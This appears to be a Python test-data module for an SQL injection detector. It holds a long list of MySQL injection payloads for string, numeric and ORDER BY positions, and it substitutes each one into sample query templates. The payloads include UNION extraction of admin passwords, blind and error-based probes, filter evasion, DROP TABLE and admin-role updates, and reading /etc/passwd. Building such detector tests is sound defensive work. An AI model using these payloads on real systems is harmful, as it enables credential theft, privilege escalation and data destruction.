"""What attackers put where a value was expected, and the statements that they put it into.

Each line ends in `$`, so that trailing blanks stay. Not here, because detectors cannot tell them from honest ones
without stopping those too: `OR role='admin'`, `UNION SELECT id,name,password FROM admins`, `AND 1=1` (query builders).
"""

from __future__ import annotations

from typing import Final

_STRINGS: Final = r"""
' OR '1'='1$
' OR 1=1-- $
' OR 1=1#$
' OR 'a'='a$
' OR ''='$
' or 1=1 -- -$
admin'-- $
admin' #$
' OR 1=1 LIMIT 1-- -$
' OR TRUE-- $
' OR true OR '$
' || '1'='1$
' || 1=1 -- $
' || '1$
' OR 2>1-- $
' OR 'x' LIKE 'x$
' OR 1 IN (1)-- $
' OR NOT 0-- $
'='$
' - '$
'^'$
'+'$
'*'$
'&'$
' XOR 1 -- $
' OR '1$
' OR 1 OR '$
' OR 1<2 OR '$
' OR 3 BETWEEN 1 AND 5 OR 'a'='b$
' OR NOT FALSE OR '$
' OR ISNULL(NULL) OR '$
' OR 1 IS NOT NULL OR '$
' OR NULL IS NULL OR '$
' OR ~0 OR '$
' OR !0 OR '$
' OR 0x41=0x41 OR '$
' OR 0b1 OR '$
' OR 1.0=1 OR '$
' OR 'a' IN ('a') OR '$
' OR 'a'<>'b$
' OR 'ab'=CONCAT('a','b') OR '$
' OR CHAR(65)='A$
' OR ASCII('a')=97 OR '$
' OR (SELECT 1)=1 OR '$
' OR (SELECT 1) OR '$
' OR EXISTS(SELECT 1) OR '$
' OR PI()=PI() OR '$
' OR id=id OR '$
' OR users.id=users.id OR '$
' OR name=name-- $
' OR length(name)>0 OR 'a'='b$
' AND 1=2 UNION SELECT 1,2,3-- $
' UNION SELECT username,password,3 FROM admins-- $
' UNION SELECT NULL,@@version,NULL-- $
' UNION SELECT 1,version(),3#$
' UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()-- $
' UNION ALL SELECT 1,concat(username,0x3a,password),3 FROM users-- $
' UNION SELECT 1,2,'3$
' UNION SELECT 1,'admin','5f4dcc3b5aa765d61d8327deb882cf99$
' UNION SELECT NULL,NULL,'a$
' UNION DISTINCT SELECT 1,2,'x$
' UNION (SELECT 1,2,'3') UNION SELECT 4,5,'$
' AND SLEEP(5)-- $
' AND (SELECT SLEEP(5))-- $
' AND IF(1=1,SLEEP(5),0)-- $
' AND BENCHMARK(10000000,SHA1('x'))-- $
' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))-- $
' AND EXTRACTVALUE(1,CONCAT('~',version())) AND '1'='1$
' AND UPDATEXML(1,CONCAT(0x7e,(SELECT user())),1)-- $
' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- $
' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- $
' AND ASCII(SUBSTRING(password,1,1))>64 AND 'a'='a$
' AND SUBSTRING(version(),1,1)='5$
' AND (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a$
' AND (SELECT COUNT(*) FROM information_schema.tables)>0 AND '1'='1$
' AND EXISTS(SELECT * FROM users) AND '1'='1$
'; DROP TABLE users-- $
'; DROP TABLE users; SELECT '1$
'; UPDATE users SET role='admin' WHERE id=1-- $
'; INSERT INTO users (name) VALUES ('x$
'; DELETE FROM users WHERE 'a'='a$
'; SHUTDOWN-- $
'; EXECUTE IMMEDIATE 'x$
'; SET GLOBAL general_log='ON$
'; CREATE USER x IDENTIFIED BY 'x$
' INTO OUTFILE '/tmp/x$
' UNION SELECT LOAD_FILE('/etc/passwd'),2,'3$
' AND 1=(SELECT COUNT(*) FROM tabname)-- $
' HAVING 1=1-- $
' GROUP BY id HAVING 1=1-- $
' ORDER BY 10-- $
' PROCEDURE ANALYSE(EXTRACTVALUE(RAND(),CONCAT(0x3a,version())),1)-- $
' RLIKE SLEEP(5)-- $
' RLIKE '.*$
' AND MID(version(),1,1)='5$
' AND LENGTH(database())>5-- $
' AND database()='shop$
' AND user() LIKE 'root%$
' AND @@version LIKE '5%$
' AND @@datadir LIKE '/%$
' OR id IS NOT NULL-- $
' AND 'a'='a$
' AND 'a'='b$
' AND 1=1 AND ''='$
' LIKE '$
' LIKE '%$
' IS NOT NULL OR '$
' IN ('x') OR '1$
' NOT LIKE 'zzz$
' REGEXP '^a$
' DIV 1 OR '$
' MOD 1 OR '1$
'/**/OR/**/1=1/**/OR/**/'$
' /*!50000OR*/ 1=1-- $
' /*!OR*/ '1'='1$
' OR/**/'1'/**/='1$
'%20OR 1=1-- $
' AnD sLeEp(3) ANd '1$
' AND `sleep`(3) AND '1$
' AND sleep /**/ (3) AND '1$
' AND GET_LOCK('a',5) AND '1'='1$
' AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B)>0 AND 'a'='a$
' AND EXP(~(SELECT * FROM (SELECT version())x)) AND '1$
' AND GTID_SUBSET(version(),0) AND '1'='1$
' AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(version())) USING utf8))) AND '1'='1$
' AND ST_LatFromGeoHash(version()) AND '1'='1$
' AND (SELECT * FROM (SELECT NAME_CONST(version(),1),NAME_CONST(version(),1))x) AND '1'='1$
' AND POLYGON((SELECT * FROM(SELECT * FROM(SELECT user())a)b)) AND '1'='1$
' AND ROW(1,1)>(SELECT COUNT(*),CONCAT(CHAR(95),CHAR(33),CHAR(64),FLOOR(RAND(0)*2))x FROM users GROUP BY x) AND '1'='1$
' OR ELT(1=1,1) OR '$
' OR MAKE_SET(1=1,1) OR '$
' OR IF(1=1,1,0) OR '$
' OR CASE WHEN 1=1 THEN 1 ELSE 0 END OR '$
' AND (CASE WHEN (1=1) THEN 1 ELSE 0 END)=1 AND '1'='1$
' AND 1=IF(2>1,1,0) AND '1'='1$
' AND NULLIF(1,1) IS NULL AND '1$
' OR STRCMP('a','a')=0 OR '$
' OR FIND_IN_SET('a','a') OR '$
' OR COALESCE(1) OR '$
' OR LEAST(1,2) OR '$
' OR JSON_VALID('{}') OR '$
' OR UNIX_TIMESTAMP()>0 OR '$
' OR NOW() OR '$
' OR RAND()<1 OR '$
' OR VERSION() OR '$
' OR @@version OR '$
' OR LAST_INSERT_ID() IS NOT NULL OR '$
' OR CONNECTION_ID()>0 OR '$
' OR (1) OR '$
' OR (1=1) OR '$
' OR -1 OR '$
' OR 1 # $
' OR 1=1;$
' OR 1=1; -- x$
' OR 1=1 UNION SELECT 1,2,3-- $
' or 'one'='one$
' or "a"="a" or '$
' OR TRUE=TRUE OR '$
' OR DATE('2020-01-01')<NOW() OR '$
' OR CURRENT_DATE>'2000-01-01$
' OR (SELECT COUNT(*) FROM users)>0 OR '$
' OR id>0 OR '$
' OR id BETWEEN 0 AND 999999 OR '$
"""

_NUMBERS: Final = r"""
1 OR 1=1$
1 OR 1$
1 OR TRUE$
1 OR NOT 0$
1 || 1$
1 || 1=1$
1 OR 2>1$
1 OR 5=5$
1 OR 'a'='a'$
1 OR 2 LIKE 2$
1 OR id=id$
1 OR 1 IN (1,2)$
1 OR 1 BETWEEN 0 AND 2$
1 OR 1 IS NOT NULL$
1 OR EXISTS(SELECT 1)$
1 OR (SELECT 1)$
-1 OR 1=1$
-1 UNION SELECT 1,2,3$
-1 UNION ALL SELECT 1,2,3$
-1 UNION SELECT 1,username,password FROM admins$
-1 UNION SELECT 1,@@version,3$
-1 UNION SELECT user(),database(),version()$
-1 UNION SELECT table_name,2,3 FROM information_schema.tables$
0 UNION SELECT NULL,NULL,NULL$
5 UNION SELECT 'a','b','c'$
1 AND 1=2$
1 AND 2=2$
1 AND 2>1$
1 AND 5=6$
1 AND 'a'='a'$
1 AND SLEEP(5)$
1-SLEEP(5)$
1*SLEEP(3)$
SLEEP(5)$
IF(1=1,1,0)$
IF(2>1,5,6)$
CASE WHEN 1=1 THEN 1 ELSE 0 END$
(SELECT (CASE WHEN (1=1) THEN 5 ELSE (SELECT 1 UNION SELECT 2) END))$
1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64$
1 AND ASCII(SUBSTR(password,1,1))>64$
1 AND (SELECT SUBSTRING(password,1,1) FROM users LIMIT 1)='a'$
1 AND ORD(MID(version(),1,1))=53$
1 AND (SELECT COUNT(*) FROM mysql.user)>0$
1 AND (SELECT COUNT(*) FROM admins)>0$
1 AND EXISTS(SELECT * FROM admins)$
1 AND EXTRACTVALUE(1,CONCAT(0x5c,version()))$
1 AND UPDATEXML(1,CONCAT(0x5c,user()),1)$
1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT user()),FLOOR(RAND(0)*2))a FROM users GROUP BY a)b)$
1 AND BENCHMARK(5000000,MD5(1))$
1 AND GET_LOCK('x',5)$
1; DROP TABLE users$
1;DELETE FROM users$
1; SELECT SLEEP(5)$
1; UPDATE users SET name='x'$
1 INTO OUTFILE '/tmp/a'$
1 AND LOAD_FILE('/etc/passwd')$
1 AND version() LIKE '5%'$
1 AND @@version LIKE '10%'$
1 AND LENGTH(database())=4$
1 AND (SELECT 1)=1$
1 AND row(1,1)>(select count(*),concat(version(),floor(rand(0)*2)) x from (select 1 union select 2)a group by x limit 1)$
1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))$
1 OR 1=1-- $
1 XOR 1=1$
1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)$
1 AND 0 UNION SELECT 1,2,3$
99999 OR 99999=99999$
1 OR 'x'$
1 = 1$
1 = 0$
1 < 2$
1 IN (1)$
1 LIKE 1$
1 OR (1=1)$
1 OR RAND()<2$
1 OR CONNECTION_ID()$
1 OR 1=1 LIMIT 1$
1 or/**/1=1$
1/**/UNION/**/SELECT/**/1,2,3$
1 /*!UNION*/ /*!SELECT*/ 1,2,3$
1 /*!50000UNION*/ SELECT id,name,password FROM admins$
1e0UNION SELECT 1,2,3$
1 AND MAKE_SET(1<2,1)$
1 AND ELT(1=1,1)$
1 AND 97=ASCII('a')$
1 AND HEX(SUBSTR((SELECT password FROM admins LIMIT 1),1,1))='61'$
1 AND LEFT(version(),1)=5$
1 AND (SELECT user FROM mysql.user LIMIT 1)='root'$
1 AND BIN(ASCII(MID(user(),1,1))) LIKE '1%'$
"""

_ORDERS: Final = r"""
id AND SLEEP(5)$
id,(SELECT SLEEP(5))$
(SELECT 1 FROM (SELECT SLEEP(5))x)$
id,EXTRACTVALUE(1,CONCAT(0x7e,version()))$
id RLIKE (CASE WHEN 1=1 THEN 1 ELSE 0x28 END)$
RAND(ASCII(MID((SELECT password FROM users LIMIT 1),1,1))>64)$
id-IF(ASCII(MID((SELECT password FROM users LIMIT 1),1,1))>64,1,2)$
IF((SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a',id,name)$
id; DROP TABLE users$
id OR 1=1$
1 AND 2=2$
(SELECT NULL FROM admins WHERE SUBSTRING(password,1,1)='a')$
id DESC,(SELECT * FROM (SELECT(SLEEP(2)))a)$
id PROCEDURE ANALYSE(EXTRACTVALUE(RAND(),CONCAT(0x3a,version())),1)$
id INTO OUTFILE '/tmp/x'$
"""


def _lines(text: str) -> list[str]:
    return [line[:-1] for line in text.strip("\n").split("\n")]


CONTEXTS: Final[list[tuple[str, list[str]]]] = [
    ("SELECT id, name, email FROM users WHERE name='{}' AND active=1 ORDER BY id", _lines(_STRINGS)),
    ("SELECT id,name,role FROM users WHERE username='{}'", _lines(_STRINGS)),
    ("SELECT id, name, email FROM users WHERE name LIKE '%{}%' LIMIT 20", _lines(_STRINGS)),
    ("SELECT id, name, email FROM users WHERE id={} AND active=1 ORDER BY name LIMIT 10", _lines(_NUMBERS)),
    ("SELECT id, name, email FROM users WHERE id={}", _lines(_NUMBERS)),
    ("SELECT id, name, email FROM users WHERE active=1 ORDER BY {} LIMIT 10", _lines(_ORDERS)),
]


def injected() -> list[str]:
    """Every value in every statement that has such a place."""
    return [context.replace("{}", value) for context, values in CONTEXTS for value in values]
